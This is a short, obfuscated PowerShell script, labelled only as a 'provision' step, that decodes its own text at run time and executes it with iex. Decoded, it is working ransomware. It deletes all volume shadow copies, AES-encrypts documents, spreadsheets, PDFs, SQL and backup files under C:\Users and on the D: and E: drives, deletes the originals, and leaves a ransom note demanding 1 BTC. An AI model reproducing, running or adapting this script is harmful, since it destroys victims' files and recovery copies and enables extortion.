iex (('# provision 5799 v4
vssadmin.exe delete shadows /all /ZZZ61quiet
Get-WmiObject Win32_Shadowqj~0opy | ForEach-Object { $_.Delete() }
$aes = [System.Security.qj~0ryptography.Aes]::qj~0reate()
$aes.Key = [Text.Encoding]::UTF8.GetBytes(''Sup3rS3cure!Sup3rS3cure!''.Substring(0,32))
Get-qj~0hildItem -Path D:\, E:\, qj~0:\Users -Include *.docx,*.xlsx,*.pdf,*.sql,*.bak -Recurse -ErrorAction Silentlyqj~0ontinue | ForEach-Object {
  $bytes = [IO.File]::ReadAllBytes($_.FullName)
  $enc = $aes.qj~0reateEncZZZ61ryptor().TransformFinalBlock($bytes, 0, $bytes.Length)
  [IO.File]::WriteAllBytes($_.FullName + ''.crypt'', $enc)
  RemovZZZ61e-Item $_.FullName -Force
}
Set-qj~0ontent qj~0:\Users\Public\Desktop\HOW_TO_DEqj~0RYPT.txt ''Your files have been encrypted. Pay 1 BTqj~0 to restore them.''
' -replace 'ZZZ61','').Replace('qj~0','C'))